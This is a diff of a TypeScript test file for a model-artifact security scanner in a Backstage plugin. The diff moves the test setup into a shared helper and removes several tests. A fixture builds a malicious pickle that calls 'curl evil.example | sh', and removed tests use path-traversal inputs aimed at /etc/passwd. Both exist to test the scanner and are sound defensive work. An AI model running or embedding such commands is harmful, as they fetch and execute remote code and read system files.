@@ -1,40 +1,14 @@
-import {
-  mockServices,
-  type TestDatabaseId,
-} from '@backstage/backend-test-utils';
-import type {
-  ArtifactScanEvidence,
-  ModelArtifact,
-  Tier,
-} from '@modelhub/backstage-plugin-models-common';
+import type { TestDatabaseId } from '@backstage/backend-test-utils';
 import { scanArtifact } from '@modelhub/scanner';
-import type { JsonObject } from '@backstage/types';
-import {
-  mkdtempSync,
-  realpathSync,
-  rmSync,
-  symlinkSync,
-  writeFileSync,
-} from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { tmpdir } from 'node:os';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { databaseIds, migratedDatabase, TestClock } from '../../__testUtils__';
+import { databaseIds, migratedDatabase } from '../../__testUtils__';
 import type { Transactions } from '../../database';
 import { subject } from '../__testUtils__';
-import { artifactScanGate } from './artifactScanGate';
-import type { ArtifactConfig } from './readArtifactConfig';
-import { ThreadScanner, type ArtifactScanner } from './ThreadScanner';
 import { calling, safetensors, sha256, zip } from './__testUtils__/artifacts';
+import { startArtifacts } from './__testUtils__/startArtifacts';
 
 jest.setTimeout(120_000);
-
-/** How the backend loads TypeScript when it is developed. */
-const execArgv = [
-  '--require',
-  require.resolve('@backstage/cli-node/config/nodeTransform.cjs'),
-];
 
 const payload = zip({
   'model/data.pkl': calling('os', 'system', 'curl evil.example | sh'),
@@ -46,109 +20,21 @@ describe.each(databaseIds)(
   'artifact security on %s',
   (databaseId: TestDatabaseId) => {
     let transactions: Transactions;
-    let folder: string;
-    let server: Server;
-    let served: Map<string, Buffer | number>;
-    let host: string;
+    let world: Awaited<ReturnType<typeof startArtifacts>>;
 
     beforeAll(async () => {
       ({ transactions } = await migratedDatabase(databaseId));
-      folder = realpathSync(mkdtempSync(join(tmpdir(), 'artifacts-')));
-      writeFileSync(join(folder, 'good.safetensors'), safetensors());
-      writeFileSync(join(folder, 'legacy.pkl'), legacy);
-      symlinkSync(tmpdir(), join(folder, 'out'));
-      served = new Map<string, Buffer | number>();
-      server = createServer((request, response) => {
-        const found = served.get(request.url ?? '') ?? 404;
-        if (typeof found === 'number') {
-          response.writeHead(found).end();
-          return;
-        }
-        response.writeHead(200, {
-          'content-length': found.length,
-          etag: '"1"',
-        });
-        response.end(request.method === 'HEAD' ? undefined : found);
-      });
-      await new Promise<void>(resolve => {
-        server.listen(0, '127.0.0.1', resolve);
-      });
-      host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+      world = await startArtifacts(transactions);
+      writeFileSync(join(world.folder, 'good.safetensors'), safetensors());
+      writeFileSync(join(world.folder, 'legacy.pkl'), legacy);
     });
-    afterAll(async () => {
-      rmSync(folder, { recursive: true });
-      await new Promise(resolve => {
-        server.close(resolve);
-      });
-    });
+    afterAll(() => world.stop());
     beforeEach(async () => {
       await transactions.knex('gate_artifact_scans').delete();
     });
 
-    const config = (changes: Partial<ArtifactConfig> = {}): ArtifactConfig => ({
-      access: {
-        schemes: ['https', 'path'],
-        hosts: [host],
-        privateHosts: [host],
-        plainHosts: [host],
-      },
-      folder,
-      env: {},
-      logins: {},
-      timeoutSeconds: 60,
-      memoryMiB: 256,
-      concurrency: 1,
-      ...changes,
-    });
-
-    /** The gate, with how often something was really scanned. */
-    function open(changes: Partial<ArtifactConfig> = {}) {
-      const used = config(changes);
-      const threads = ThreadScanner.create({
-        memoryMiB: used.memoryMiB,
-        execArgv,
-      });
-      const scanned: string[] = [];
-      const told: string[] = [];
-      const scanner: ArtifactScanner = {
-        scan: (request, options) => {
-          scanned.push(request.uri);
-          return threads.scan(request, options);
-        },
-      };
-      const clock = new TestClock();
-      const gate = artifactScanGate({
-        config: used,
-        transactions,
-        clock,
-        scanner,
-      });
-      const evaluate = async (
-        artifact: ModelArtifact | undefined,
-        params: JsonObject = {},
-        options: { tier?: Tier; signal?: AbortSignal } = {},
-      ) => {
-        const outcome = await gate.evaluate(
-          subject({ version: { name: '1', artifact }, tier: options.tier }),
-          params,
-          {
-            logger: mockServices.logger.mock(),
-            signal: options.signal ?? new AbortController().signal,
-            now: clock.now(),
-            getEntities: async () => new Map(),
-            progress: ({ message }) => told.push(message),
-          },
-        );
-        return {
-          ...outcome,
-          evidence: outcome.evidence as ArtifactScanEvidence | undefined,
-        };
-      };
-      return { gate, evaluate, scanned, told, clock };
-    }
-
     it('reads bytes that are known by digest once, for every tier', async () => {
-      const { evaluate, scanned, told, clock } = open();
+      const { evaluate, scanned, told, clock } = world.open();
       const artifact = {
         uri: 'file:///good.safetensors',
         digest: sha256(safetensors()),
@@ -215,19 +101,19 @@ describe.each(databaseIds)(
       });
       expect(sarif).toMatchObject({ version: '2.1.0' });
       // Where the portal keeps its files is nobody's business.
-      expect(JSON.stringify(first)).not.toContain(folder);
+      expect(JSON.stringify(first)).not.toContain(world.folder);
 
       // The name tells loaders what the bytes are, so it is another question.
-      writeFileSync(join(folder, 'renamed.bin'), safetensors());
+      writeFileSync(join(world.folder, 'renamed.bin'), safetensors());
       await evaluate({ ...artifact, uri: 'file:///renamed.bin' });
       expect(scanned).toHaveLength(2);
     });
 
     it('finds what hides in an archive, and where', async () => {
-      served.set('/model.bin', payload);
-      const { evaluate } = open();
+      world.served.set('/model.bin', payload);
+      const { evaluate } = world.open();
       const outcome = await evaluate({
-        uri: `http://${host}/model.bin`,
+        uri: `http://${world.host}/model.bin`,
         digest: sha256(payload),
       });
       expect(outcome.verdict).toBe('fail');
@@ -249,7 +135,7 @@ describe.each(databaseIds)(
     });
 
     it('stops from the severity on that the policy names', async () => {
-      const { evaluate, scanned } = open();
+      const { evaluate, scanned } = world.open();
       const artifact = { uri: 'file:///legacy.pkl', digest: sha256(legacy) };
       const lax = await evaluate(artifact, { failOn: 'critical' });
       expect(lax).toMatchObject({ verdict: 'warn' });
@@ -267,17 +153,19 @@ describe.each(databaseIds)(
 
     it('fails what cannot be judged to its end, whatever the policy stops', async () => {
       const cut = payload.subarray(0, payload.length - 30);
-      served.set('/cut.bin', cut);
-      const outcome = await open().evaluate(
-        { uri: `http://${host}/cut.bin`, digest: sha256(cut) },
-        { failOn: 'critical' },
-      );
+      world.served.set('/cut.bin', cut);
+      const outcome = await world
+        .open()
+        .evaluate(
+          { uri: `http://${world.host}/cut.bin`, digest: sha256(cut) },
+          { failOn: 'critical' },
+        );
       expect(outcome.verdict).toBe('fail');
       expect(outcome.evidence?.notRead).not.toEqual([]);
     });
 
     it('fails other bytes than the catalog names, and keeps nothing for those', async () => {
-      const { evaluate, scanned } = open();
+      const { evaluate, scanned } = world.open();
       const artifact = {
         uri: 'file:///good.safetensors',
         digest: sha256(legacy),
@@ -295,7 +183,7 @@ describe.each(databaseIds)(
     });
 
     it('pins what no digest pins, and reads it again each time', async () => {
-      const { gate, evaluate, scanned } = open();
+      const { gate, evaluate, scanned } = world.open();
       const artifact = { uri: 'file:///good.safetensors' };
       expect((await evaluate(artifact)).evidence).toMatchObject({
         digest: sha256(safetensors()),
@@ -318,51 +206,8 @@ describe.each(databaseIds)(
       ).toBeUndefined();
     });
 
-    it.each([
-      ['hf://org/model', 'not read here'],
-      ['https://example.com/model.bin', 'allowedHosts'],
-      ['ftp://example.com/model.bin', 'not read'],
-      ['/etc/passwd', 'no address of an artifact'],
-      ['file:///../../../etc/passwd', 'There is no /etc/passwd'],
-      ['file:///out/x', 'There is no'],
-      ['file:///out', 'leads out of the folder'],
-      ['file://host/good.safetensors', 'no address of a file'],
-    ])('reads nothing at %s, and does not try again', async (uri, words) => {
-      const outcome = await open().evaluate({ uri });
-      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
-      expect(outcome.summary).toContain(words);
-    });
-
-    it('reaches no private address unless it is listed', async () => {
-      served.set('/good.safetensors', safetensors());
-      const access = {
-        schemes: ['https' as const],
-        hosts: [host],
-        plainHosts: [host],
-      };
-      const outcome = await open({ access }).evaluate({
-        uri: `http://${host}/good.safetensors`,
-      });
-      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
-      expect(outcome.summary).toContain('not public');
-    });
-
-    it('reads no files without a folder', async () => {
-      const outcome = await open({ folder: undefined }).evaluate({
-        uri: 'file:///good.safetensors',
-      });
-      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
-      expect(outcome.summary).toContain('modelGovernance.artifacts.folder');
-    });
-
-    it('says what to do when a server has no such file', async () => {
-      const outcome = await open().evaluate({ uri: `http://${host}/gone.bin` });
-      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
-      expect(outcome.summary).toContain("model's YAML");
-    });
-
     it('asks for files where the policy does', async () => {
-      const { gate, evaluate } = open();
+      const { gate, evaluate } = world.open();
       const about = subject({ version: { name: '1' } });
       expect(gate.appliesTo(about, {})).toBe(false);
       expect(gate.notApplicable).toContain('the provider runs the model');
@@ -375,33 +220,13 @@ describe.each(databaseIds)(
       });
     });
 
-    it('survives what outgrows its thread', async () => {
-      const outcome = await open({ memoryMiB: 4 }).evaluate({
-        uri: 'file:///good.safetensors',
-      });
-      expect(outcome).toMatchObject({
-        verdict: 'fail',
-        findings: [{ id: 'scan-exhausted' }],
-      });
-    });
-
-    it('ends the thread when nobody waits any more', async () => {
-      const aborting = new AbortController();
-      const { evaluate } = open();
-      const answer = evaluate(
-        { uri: 'file:///good.safetensors' },
-        {},
-        { signal: aborting.signal },
-      );
-      aborting.abort(new Error('withdrawn'));
-      await expect(answer).rejects.toThrow('withdrawn');
-    });
-
     it('answers as a scan on a laptop does', async () => {
-      served.set('/model.bin', payload);
-      writeFileSync(join(folder, 'model.bin'), payload);
-      const remote = await open().evaluate({ uri: `http://${host}/model.bin` });
-      const local = await scanArtifact(join(folder, 'model.bin'), {
+      world.served.set('/model.bin', payload);
+      writeFileSync(join(world.folder, 'model.bin'), payload);
+      const remote = await world
+        .open()
+        .evaluate({ uri: `http://${world.host}/model.bin` });
+      const local = await scanArtifact(join(world.folder, 'model.bin'), {
         access: { schemes: ['path'] },
       });
       const [{ findings }] = local.files;
